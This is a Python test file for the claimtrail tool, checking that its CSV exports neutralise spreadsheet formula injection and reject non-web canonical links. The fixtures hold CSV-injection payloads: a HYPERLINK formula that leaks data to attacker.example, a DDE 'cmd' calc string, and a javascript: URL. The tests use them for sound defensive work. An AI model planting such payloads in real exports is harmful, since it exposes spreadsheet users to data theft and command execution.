"""CSV that a spreadsheet opens without running anything a document said.

A page whose title and paragraphs start with formulas is stored as ingest stores it; every CSV
claimtrail writes (export csv and acled, sql, search) must then carry those cells with a
leading ``'`` (OWASP's rule for CSV injection), and ``--raw`` must give them back as
stored. A canonical link that is not http(s) is not kept as the document's address.
"""

from __future__ import annotations

import csv
import io
from html import escape
from pathlib import Path

import pytest
from stored import store_files
from typer.testing import CliRunner

from claimtrail.cli import app
from claimtrail.db import query_readonly
from claimtrail.db.store import web_address
from claimtrail.export import FORMULA_STARTS, inert

runner = CliRunner()
TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the annex")'
PAGE = f"""<!doctype html>
<html><head><title>{escape(TITLE)}</title>
<link rel="canonical" href="javascript:alert(document.domain)"></head>
<body><h1>{escape(TITLE)}</h1>
<p>-2+3+cmd|' /C calc'!A0 Police in Kano arrested 36 suspected militants on 3 March 2024.</p>
<p>@SUM(1+1) Nigerian troops conducted 12 raids in Borno State in April 2024.</p>
</body></html>
"""
COMMANDS = {
    "export csv": ["export", "--format", "csv"],
    "export acled": ["export", "--format", "acled"],
    "sql csv": ["sql", "SELECT title, text, source_url FROM v_documents", "--format", "csv"],
    "search csv": ["search", "arrested OR raids", "--format", "csv"],
}


@pytest.fixture
def hostile_page(db_url: str, tmp_path: Path) -> str:
    page = tmp_path / "formulas.html"
    page.write_text(PAGE, encoding="utf-8")
    store_files([page], db_url)
    return db_url


def cells(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output)))


@pytest.mark.parametrize("command", COMMANDS)
def test_every_csv_makes_formulas_inert_and_raw_gives_them_back(hostile_page: str, command: str) -> None:
    safe = runner.invoke(app, [*COMMANDS[command], "--db", hostile_page])
    raw = runner.invoke(app, [*COMMANDS[command], "--db", hostile_page, "--raw"])
    assert safe.exit_code == 0 and raw.exit_code == 0, safe.output + raw.output

    safe_rows, raw_rows = cells(safe.stdout), cells(raw.stdout)
    assert len(safe_rows) > 1 and len(safe_rows) == len(raw_rows)
    prefixed = 0
    for safe_row, raw_row in zip(safe_rows, raw_rows, strict=True):
        for safe_cell, raw_cell in zip(safe_row, raw_row, strict=True):
            if raw_cell.startswith(FORMULA_STARTS):
                assert safe_cell == "'" + raw_cell
                prefixed += 1
            else:
                assert safe_cell == raw_cell
    assert prefixed > 0
    assert any(cell.startswith(("'=HYPERLINK(", "'-2+3+cmd", "'@SUM(")) for row in safe_rows for cell in row)


def test_the_title_survives_the_round_trip(hostile_page: str) -> None:
    exported = cells(runner.invoke(app, ["export", "--db", hostile_page]).stdout)
    title = exported[0].index("title")
    assert {row[title] for row in exported[1:]} == {"'" + TITLE}
    raw = cells(runner.invoke(app, ["export", "--db", hostile_page, "--raw"]).stdout)
    assert {row[title] for row in raw[1:]} == {TITLE}


def test_a_canonical_link_that_is_not_http_is_not_kept(hostile_page: str) -> None:
    _, rows = query_readonly(hostile_page, "SELECT source_url, doc_uri FROM v_documents")
    assert rows[0][0] is None
    exported = cells(runner.invoke(app, ["export", "--db", hostile_page]).stdout)
    link = exported[0].index("link")
    assert all(row[link].startswith("file:///") for row in exported[1:])


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (-1, -1), (2.5, 2.5), (None, None),  # numbers stay numbers
])
def test_the_owasp_rule(cell: object, written: object) -> None:
    assert inert(cell) == written


@pytest.mark.parametrize(("url", "kept"), [
    ("https://example.org/brief", True), ("HTTP://EXAMPLE.ORG/", True), ("javascript:alert(1)", False),
    ("file:///etc/passwd", False), ("data:text/html,<script>", False), ("http:///no-host", False),
    ("http://[::1", False), ("", False), (None, False),
])
def test_only_web_addresses_are_source_urls(url: str | None, kept: bool) -> None:
    assert (web_address(url) == url) if kept else web_address(url) is None
